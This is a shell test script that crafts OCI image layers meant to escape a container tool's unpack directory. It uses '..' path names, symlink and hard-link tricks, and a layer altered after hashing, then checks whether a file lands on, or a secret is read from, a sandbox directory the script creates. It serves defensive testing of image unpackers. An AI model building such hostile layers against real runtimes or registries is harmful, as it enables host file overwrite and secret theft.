#!/bin/sh
# shellcheck disable=SC2317,SC2015  # functions are called by name, in "$attack"
# hostile-layer.sh KEG [CASE...] - gives KEG images whose layers do what a layer must not. Each aims at a "host" made
# for it, a directory with a secret in it. A keg that knows no images gets what people without such a keg do: each
# layer unpacked into one and the same directory with tar (TAR='tar -P': with another command).
#
# Exit code 0: one of the attacks worked; 1: all were stopped; 2: it could not be tried.
set -u
export LC_ALL=C
umask 022

[ $# -ge 1 ] && keg=$(realpath "$1") && [ -x "$keg" ] || { echo "usage: hostile-layer.sh KEG [CASE...]" >&2; exit 2; }
shift
busybox=$(command -v busybox) || { echo "this needs busybox-static" >&2; exit 2; }
work=$(mktemp -d) || exit 2
trap 'rm -rf "$work"' EXIT
trap 'exit 130' INT TERM HUP

# --- an image, by hand -------------------------------------------------------------------------------

# descriptor TYPE FILE: moves the file to where its digest says, and prints what points to it.
descriptor() {
    hex=$(sha256sum "$2" | cut -d' ' -f1) size=$(stat -c %s "$2")
    mv "$2" "$image/blobs/sha256/$hex"
    printf '{"mediaType":"application/vnd.oci.image.%s","digest":"sha256:%s","size":%s}' "$1" "$hex" "$size"
}

# add_layer FILE: on top of those that are there.
add_layer() {
    layers="${layers:+$layers,}$(descriptor layer.v1.tar "$1")"
}

begin() {
    image=$work/image host=$work/host layers='' shown=/order
    rm -rf "${work:?}"/*
    mkdir -p "$image/blobs/sha256" "$host" "$work/base/bin" "$work/base/dev" "$work/base/proc" "$work/tree/way"
    echo "the secret of the host" >"$host/secret"
    cp "$busybox" "$work/base/bin/busybox"
    echo "pay to account 1111" >"$work/base/order"
    tar -C "$work/base" -cf "$work/tar" .
    add_layer "$work/tar"
    # A keg unpacks in a directory of its store, which is as deep below $work as this.
    mkdir -p "$work/store/by-hand"
    cd "$work/tree" || exit 2
}

finish() {
    printf '{"config":{"Cmd":["/bin/busybox","cat","%s"]}}' "$shown" >"$work/config"
    printf '{"schemaVersion":2,"config":%s,"layers":[%s]}' "$(descriptor config.v1+json "$work/config")" "$layers" \
        >"$work/manifest"
    printf '{"schemaVersion":2,"manifests":[%s]}' "$(descriptor manifest.v1+json "$work/manifest")" >"$image/index.json"
    printf '{"imageLayoutVersion":"1.0.0"}' >"$image/oci-layout"
}

# --- the attacks -------------------------------------------------------------------------------------

# A name with "..", which leads from the directory of the layer to the host.
dots() {
    echo hacked >written
    tar -P --transform='s,^,../../host/,' -cf "$work/tar" written
    add_layer "$work/tar"
}

# A symbolic link to the host, and then a file "in" it.
link() {
    echo hacked >way/written
    ln -s "$host" "$work/way"
    tar -C "$work" -cf "$work/tar" way
    tar -rf "$work/tar" way/written
    add_layer "$work/tar"
}

# The same in two layers: the link comes first, alone.
two_layers() {
    echo hacked >way/written
    ln -s "$host" "$work/way"
    tar -C "$work" -cf "$work/tar" way
    add_layer "$work/tar"
    tar -cf "$work/tar" way/written
    add_layer "$work/tar"
}

# And a second name for a file that is there already, seen through the link: no copy of the secret, the secret itself.
hard_link() {
    echo >way/secret
    ln way/secret stolen
    shown=/stolen
    ln -s "$host" "$work/way"
    tar -C "$work" -cf "$work/tar" way
    add_layer "$work/tar"
    tar -cf "$work/tar" way/secret stolen
    tar --delete -f "$work/tar" way/secret
    add_layer "$work/tar"
}

# Nothing escapes here. After the image was made, somebody changes four bytes in the file of a layer.
exchanged() {
    finish
    sed -i 's/account 1111/account 6666/' "$image"/blobs/sha256/*
}

# --- what comes of them ------------------------------------------------------------------------------

run_image() {
    KEG_STORE=$work/store timeout 60 "$keg" "oci:$image"
}

run_by_hand() {
    for hex in $(printf '%s' "$layers" | grep -o 'sha256:[0-9a-f]*' | cut -d: -f2); do
        ${TAR:-tar} -xf "$image/blobs/sha256/$hex" -C "$work/store/by-hand" || return
    done
    timeout 60 "$keg" "$work/store/by-hand" /bin/busybox cat "$shown"
}

worked=1
judge() {
    if [ -e "$host/written" ]; then
        result="WORKED   a file was written on the host"
    elif grep -q "secret of the host" "$work/said"; then
        result="WORKED   the keg reads the host's secret"
    elif grep -q "account 6666" "$work/said"; then
        result="WORKED   the changed layer runs"
    else
        echo "$1: stopped   $(grep -v Removing "$work/said" | head -n 1 | sed "s,$work/,,g")"
        return
    fi
    worked=0
    echo "$1: $result"
}

by=run_by_hand
"$keg" --help | grep -q oci: && by=run_image
[ $# -gt 0 ] || set -- dots link two_layers hard_link exchanged
for attack; do
    begin
    "$attack"
    [ "$attack" = exchanged ] || finish
    $by >"$work/said" 2>&1
    judge "$attack"
done
exit $worked
